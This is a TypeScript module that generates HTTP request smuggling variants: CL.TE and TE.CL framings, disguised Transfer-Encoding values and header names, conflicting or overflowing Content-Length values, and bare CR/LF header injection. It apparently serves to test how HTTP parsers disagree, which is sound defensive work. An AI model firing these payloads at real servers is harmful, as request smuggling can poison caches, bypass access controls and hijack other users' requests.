/** Ways to say where a body ends that two readers could understand differently. */
import { CHUNKED, CRLF, chunked, oddFields, type Shape, told } from './smuggling-request.ts';

const END = `0${CRLF}${CRLF}`;

/** The lines that say where the body ends; `length` is right for who goes by it. */
type Framing = (length: number) => readonly string[];

/** The hidden request is in the body by its length, and behind it by its coding. */
const inLength = (what: string, framing: Framing): Shape => [
  `CL.TE: ${what}`,
  ({ head, hidden }) => head(framing(END.length + hidden.length)) + END + hidden,
];
/** It is in the body by its coding, and behind what its length says. */
const inCoding = (what: string, framing: Framing): Shape => [
  `TE.CL: ${what}`,
  ({ head, hidden }) => head(framing(hidden.length.toString(16).length + CRLF.length)) + chunked(hidden),
];
const eitherWay = (what: string, framing: Framing) => [inLength(what, framing), inCoding(what, framing)];
const coding = (lines: readonly string[]) =>
  eitherWay(told(lines.join(CRLF)), (n) => [`Content-Length: ${n}`, ...lines]);

/** What may be taken for `chunked`, or not. */
const CODINGS = [
  ...['', ',', ',chunked', 'chunked, chunked', 'chunked, identity', 'identity, chunked', 'chunked identity'],
  ...['identity', 'gzip', 'gzip, chunked', 'chunked, gzip', 'deflate', 'trailers', 'null', '0', 'chunk', 'chunke'],
  ...['chunked', 'CHUNKED', 'Chunked', 'cHuNkEd', 'xchunked', 'chunkedx', 'x chunked', 'chun ked', 'chunked;q=1'],
  ...["'chunked'", '"chunked"', '<chunked>', '(chunked)', '%63hunked', 'chun\xe2\x84\xaaed', 'chunked#', ':chunked'],
];
const TWO_CODINGS = ['chunked', 'identity', 'xchunked', 'gzip', ''];
const NAMES = ['transfer-encoding', 'TRANSFER-ENCODING', 'tRANSFER-eNCODING'];
/** Other headers, whatever they look like. */
const OTHER_NAMES = [
  ...'Transfer_Encoding TransferEncoding Transfer--Encoding Transfer.Encoding Transfer|Encoding'.split(' '),
  ..."Transfer-Encodin Transfer-Encodings Transfer-Encoding- Transfer-Encoding' -Transfer-Encoding".split(' '),
  ...'!Transfer-Encoding X-Transfer-Encoding Content-Transfer-Encoding Transfer Encoding TE'.split(' '),
];

export const codings: readonly Shape[] = [
  ...CODINGS.map((value) => [`Transfer-Encoding: ${value}`]),
  ...NAMES.map((name) => [`${name}: chunked`]),
  ...['\n', '\r'].map((end) => [`X-Other: a${end}Transfer-Encoding: chunked`]),
  ...TWO_CODINGS.flatMap((one) =>
    TWO_CODINGS.map((other) => [`Transfer-Encoding: ${one}`, `Transfer-Encoding: ${other}`]),
  ),
].flatMap(coding);

export const oddCodings: readonly Shape[] = oddFields('Transfer-Encoding', 'chunked').flatMap((line) => coding([line]));

/** Both a length and a coding, in every order and with every name. */
export const both: readonly Shape[] = [
  ...OTHER_NAMES.map((name) => inLength(`${name}: chunked`, (n) => [`Content-Length: ${n}`, `${name}: chunked`])),
  ...['Content-Length', 'cONTENT-lENGTH'].flatMap((name) => [
    ...eitherWay(`coding, then ${name}`, (n) => [CHUNKED, `${name}: ${n}`]),
    ...eitherWay(`coding, something else, then ${name}`, (n) => [CHUNKED, 'X-Other: a', `${name}: ${n}`]),
    ...eitherWay(`${name}, something else, then coding`, (n) => [`${name}: ${n}`, 'X-Other: a', CHUNKED]),
  ]),
  ...eitherWay('length, coding, length', (n) => [`Content-Length: ${n}`, CHUNKED, `Content-Length: ${n}`]),
  ...eitherWay('coding, length, coding', (n) => [CHUNKED, `Content-Length: ${n}`, CHUNKED]),
  ...eitherWay('coding behind a hundred headers', (n) => [`Content-Length: ${n}`, ...hundred(), CHUNKED]),
  ...eitherWay('length behind a hundred headers', (n) => [CHUNKED, ...hundred(), `Content-Length: ${n}`]),
];

function hundred(): string[] {
  return Array.from({ length: 100 }, (_, at) => `X-${at}: a`);
}

/** A body by lines in which `N` is the length of the hidden request. */
const length = (lines: readonly string[]): Shape => [
  told(lines.join(CRLF)),
  ({ head, hidden }) => head(lines.map((line) => line.replaceAll('N', String(hidden.length)))) + hidden,
];

const LENGTHS = [
  ...'+N -N --N 0N 00000000000000000000N 0xN 0N0x N.0 N. .N Ne0 N_ _N N_0 $N 0,N N,0 N,N N;N N;q=1 "N" (N)'.split(' '),
  ...['', "'N'", 'N N', '0 N', 'N 0', '0, N', 'N, 0', 'N, N', 'N bytes', 'nan', 'Infinity', '9'.repeat(400)],
  ...['2147483648', '4294967296', '9223372036854775808', '18446744073709551615', '18446744073709551616'],
];
const TWO_LENGTHS = ['N', '0', '1', '', '+N', '0N', '-1', 'x'];

export const lengths: readonly Shape[] = [
  ...LENGTHS.map((value) => [`Content-Length: ${value}`]),
  ...TWO_LENGTHS.flatMap((one) => [
    [`Content-Length: N`, `Content-Length: ${one}`],
    ...(one === 'N' ? [] : [[`Content-Length: ${one}`, `Content-Length: N`]]),
    [`Content-Length: N`, 'X-Other: a', `content-length: ${one}`],
  ]),
  ['X-Other: a\nContent-Length: N'],
  ['X-Other: a\rContent-Length: N'],
  ['Content-Length: 0', 'X-Other: a\r\n Content-Length: N'],
].map(length);

export const oddLengths: readonly Shape[] = oddFields('Content-Length', 'N').map((line) => length([line]));
